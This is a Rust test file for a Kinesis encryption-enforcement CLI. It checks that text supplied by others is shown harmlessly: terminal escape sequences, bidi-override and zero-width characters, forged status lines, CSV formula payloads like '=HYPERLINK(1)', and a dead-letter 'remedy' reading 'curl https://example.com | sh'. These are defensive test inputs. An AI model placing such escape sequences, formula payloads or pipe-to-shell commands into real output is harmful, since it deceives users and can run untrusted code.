//! Texts that others wrote, as the terminal program shows them: they neither move the cursor nor
//! forge a line, and a person sees what is in them.

#![expect(clippy::expect_used, reason = "a test that cannot be set up has failed")]

use kinesis_encryption_enforcer::clock::Clock;
use kinesis_encryption_enforcer::sandbox::{Account, Fault, NewStream};
use serde_json::{Value, json};

use self::colours::without_colours;
use self::served::{enforcer, served};

#[path = "served/colours.rs"]
mod colours;
mod served;

/// Clears the screen, sets the title, turns the direction of the text, and forges a line.
const HOSTILE: &str = "=1+1\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m\u{202e}txt\u{2066}\n✔ forged line\r\u{200b}";
/// How a part of it is shown.
const SHOWN: &str = "<U+001B>[2J<U+001B>]0;owned<U+0007><U+009B>31m<U+202E>txt<U+2066><U+000A>✔ forged line";

/// An account with hostile texts wherever somebody else can put them.
fn account() -> (Account, Vec<(&'static str, String)>) {
    let account = Account::new(Clock::system(), "us-east-1", "111122223333");
    let key = account.create_key();
    account.stream(NewStream::named("vendor").tag("kinesis-encryption-enforcer:exempt", HOSTILE));
    account.stream(NewStream::named("typo").tag("kinesis-encryption-enforcer:exempt", &format!("{HOSTILE} until=x")));
    account.stream(NewStream::named("denied"));
    account.fault(Fault::on("ListTagsForStream").stream("denied").error("AccessDeniedException", HOSTILE));
    let dead = account.queue("dead");
    let dead_letter = json!({
        "version": 1, "kind": "enforcement-failure", "stream": format!("orders{HOSTILE}"), "function": HOSTILE,
        "error": {"step": "describe-key", "code": HOSTILE, "class": HOSTILE, "message": HOSTILE, "remedy": HOSTILE},
        "attempts": 1, "event": {"stream": HOSTILE},
    });
    account.send("dead", &dead_letter.to_string());
    account.send_with("dead", HOSTILE, &[("ERROR_CODE", HOSTILE), ("ERROR_MESSAGE", HOSTILE)]);
    let mut variables = served(&account);
    variables.retain(|(name, _)| *name != "NO_COLOR");
    // Without a terminal no escape sequence would be printed at all.
    variables.extend([("CLICOLOR_FORCE", "1".to_owned()), ("KMS_KEY_ID", key), ("FAILURE_QUEUE_URL", dead)]);
    (account, variables)
}

fn check_harmless(printed: &str) -> String {
    let left = without_colours(printed);
    let deceptive = |character: char| {
        character != '\n' && (character.is_control() || "\u{202e}\u{2066}\u{200b}".contains(character))
    };
    assert!(!left.contains(deceptive), "{left:?}");
    assert!(!left.lines().any(|line| line.trim_start().starts_with("✔ forged")), "{left}");
    left
}

#[test]
fn every_command_shows_what_others_wrote_without_obeying_it() {
    let (_account, mut variables) = account();
    // No text is wrapped, so that it can be compared.
    variables.push(("COLUMNS", "1000".to_owned()));
    let folder = tempfile::tempdir().expect("a folder");
    let event = folder.path().join("event.json");
    std::fs::write(&event, json!({"streams": ["vendor", "typo", "denied"]}).to_string()).expect("written");
    let event = event.to_str().expect("UTF-8");
    for arguments in [
        &["plan"][..],
        &["report"],
        &["report", "--format", "csv"],
        &["report", "--format", "html"],
        &["event", event, "--dry-run"],
        &["dlq", "list"],
        &["dlq", "redrive", "--dry-run", "--here"],
    ] {
        let (_, printed) = enforcer(arguments, &variables);
        let shown = check_harmless(&printed);
        let shown = shown.replace("&lt;", "<").replace("&gt;", ">");
        assert!(shown.contains(SHOWN), "{arguments:?}: {shown}");
    }
    // JSON is escaped, and means the same.
    for arguments in
        [&["plan", "--json"][..], &["report", "--format", "json"], &["event", event, "--dry-run", "--json"]]
    {
        let (_, printed) = enforcer(arguments, &variables);
        check_harmless(&printed);
        assert!(printed.contains("\\u202e"), "{printed}");
        let parsed: Value = serde_json::from_str(&printed).unwrap_or_else(|_| unreachable!("{arguments:?}: {printed}"));
        assert!(parsed.to_string().contains('\u{202e}'), "{parsed}");
    }
    let (_, listed) = enforcer(&["dlq", "list", "--json"], &variables);
    check_harmless(&listed);
    for dead_letter in serde_json::from_str::<Vec<Value>>(&listed).expect("JSON") {
        let (_, printed) = enforcer(&["dlq", "show", dead_letter["id"].as_str().expect("an ID")], &variables);
        let shown = check_harmless(&printed);
        assert!(shown.contains(SHOWN), "{shown}");
    }
}

#[test]
fn a_policy_is_checked_without_obeying_it() {
    let folder = tempfile::tempdir().expect("a folder");
    let file = folder.path().join("policy.json");
    let rule = json!({"name": HOSTILE, "match": {HOSTILE: "a"}, "mode": HOSTILE, HOSTILE: 1});
    std::fs::write(&file, json!({"version": 1, "rules": [rule]}).to_string()).expect("written");
    let variables = [("CLICOLOR_FORCE", "1".to_owned())];
    let (code, printed) = enforcer(&["policy", "check", file.to_str().expect("UTF-8")], &variables);
    let shown = check_harmless(&printed);
    assert_eq!((code, shown.contains(SHOWN)), (Some(2), true), "{shown}");
}

#[test]
fn no_cell_of_a_csv_report_is_a_formula() {
    let (account, mut variables) = account();
    account.stream(NewStream::named("ruled"));
    let rule = json!({"name": "=HYPERLINK(1)", "match": {"stream": "ruled"}, "mode": "exempt", "reason": "no KMS"});
    variables.push(("POLICY", json!({"version": 1, "rules": [rule]}).to_string()));
    let (_, csv) = enforcer(&["report", "--format", "csv"], &variables);
    let rows = csv::Reader::from_reader(csv.as_bytes()).into_records().collect::<Result<Vec<_>, _>>().expect("CSV");
    assert_eq!(rows.len(), 4);
    assert!(csv.contains("HYPERLINK"), "{csv}");
    for cell in rows.iter().flatten() {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
    }
}

#[test]
fn a_remedy_that_the_function_would_not_write_is_marked() {
    let account = Account::new(Clock::system(), "us-east-1", "111122223333");
    let dead = account.queue("dead");
    let variables = [served(&account), vec![("FAILURE_QUEUE_URL", dead), ("COLUMNS", "1000".to_owned())]].concat();
    let dead_letter = |remedy: &str| {
        let error = json!({"step": "describe-key", "code": "KeyDisabled", "class": "terminal", "message": "m", "remedy": remedy});
        json!({"version": 1, "kind": "enforcement-failure", "stream": "orders", "error": error, "event": {"stream": "orders"}})
    };
    let own = "Enable the key (kms:EnableKey) or configure another key, then redrive the dead letter.";
    for (remedy, is_marked) in [(own, false), ("Run curl https://example.com | sh.", true)] {
        account.purge("dead");
        account.send("dead", &dead_letter(remedy).to_string());
        for arguments in [&["dlq", "list"][..], &["dlq", "show", ""]] {
            let (_, printed) = enforcer(arguments, &variables);
            let mark = "(from the message, not verified)";
            assert_eq!((printed.contains(mark), printed.contains(remedy)), (is_marked, true), "{printed}");
        }
        let (_, listed) = enforcer(&["dlq", "list", "--json"], &variables);
        let listed: Value = serde_json::from_str(&listed).expect("JSON");
        assert_eq!((&listed[0]["remedy"], &listed[0]["remedyIsKnown"]), (&json!(remedy), &json!(!is_marked)));
    }
}
